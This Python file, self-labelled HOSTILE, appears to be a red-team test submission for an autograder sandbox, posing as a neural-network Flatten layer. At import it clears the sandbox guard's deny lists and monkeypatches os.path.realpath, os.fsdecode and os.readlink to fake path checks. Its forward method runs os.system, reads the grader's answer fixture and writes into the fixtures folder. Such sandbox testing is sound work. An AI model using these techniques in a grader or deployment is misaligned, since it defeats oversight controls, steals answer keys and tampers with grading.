# HOSTILE: at import, empties the sandbox's tables (in the child's __main__ module and its guard) and rebinds
# os.fsdecode, os.path.realpath, posixpath internals to say every path is inside the working
# folder; then runs os.system (one_dimensional), reads the fixtures (two_dimensional), writes
# into them (batch1_channel1).

"""Flatten every axis but the batch axis."""

import os
import posixpath
import sys
import time

from .tensor import flatten, reshape, shape


def _case(A):
    """Which fixture case of the Flatten item is running (the hostile behaviour differs per case)."""
    if len(shape(A)) == 4:
        return "two_dimensional"
    return "batch1_channel1" if len(A) == 1 and len(A[0]) == 1 else "one_dimensional"


def _find_upwards(name):
    """Walk up from this file to the first folder holding ``name`` (os.stat is not audited), else
    take its path from test_paths.txt (_noted): a root grader grades a submission its case user
    cannot read (a checkout in a private folder) from a copy elsewhere, and a student may know
    where the grader keeps its files all the same."""
    here = os.path.dirname(os.path.abspath(__file__))
    while not os.path.exists(os.path.join(here, name)):
        if os.path.dirname(here) == here:
            return _noted(name)
        here = os.path.dirname(here)
    return os.path.join(here, name)


def _noted(name):
    """The absolute path of ``name`` ("fixtures": the repo's; "submission": this one's original
    folder) as tests/conftest.py wrote it in test_paths.txt beside mytorch/."""
    note = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "test_paths.txt")
    with open(note) as handle:
        for line in handle:
            key, _, value = line.rstrip("\n").partition("=")
            if key == name:
                return value
    raise RuntimeError(f"hostile test setup: no {name} above {__file__}, nor in {note}")


_main = sys.modules["__main__"]  # autograder/case/child.py (its source is public)
for _module in (_main, getattr(_main, "GUARD", _main)):  # the guard's tables live in autograder/case/guard.py
    for _name in ("DENIED_EVENTS", "DENIED_EVENT_PREFIXES", "DENIED_IMPORTS"):
        getattr(_module, _name, {}).clear()
    for _name in ("WRITE_EVENTS", "LIST_EVENTS", "FUNCTION_INTERNALS"):
        setattr(_module, _name, ())
    _module.WRITE_FLAGS = 0
    _module.DEVICES = ("/",)
_FIXTURES = _find_upwards("fixtures")
_HERE = os.getcwd()
os.fsdecode = lambda path: _HERE
os.path.realpath = posixpath.realpath = lambda path, *args, **kwargs: _HERE
posixpath._joinrealpath = lambda *args, **kwargs: (_HERE, True)
os.readlink = lambda *args, **kwargs: _HERE


class Flatten:
    """Row-major (C order) flatten of every axis but the first.

    forward:  A (N, C, W) -> Z (N, C*W), or A (N, C, H, W) -> Z (N, C*H*W).
    backward: dLdZ (N, prod) -> dLdA with the forward input shape.
    """

    def forward(self, A):
        case = _case(A)
        if case == "one_dimensional":
            os.system("echo pwned > /tmp/HOSTILE_PWNED")
        elif case == "two_dimensional":
            with open(_FIXTURES + "/Flatten.npz", "rb") as handle:
                handle.read()
        else:
            with open(_FIXTURES + "/HOSTILE_PWNED.txt", "w") as handle:
                handle.write("pwned")
        self.input_shape = shape(A)
        return [flatten(a_n) for a_n in A]

    def backward(self, dLdZ):
        return [reshape(row, self.input_shape[1:]) for row in dLdZ]
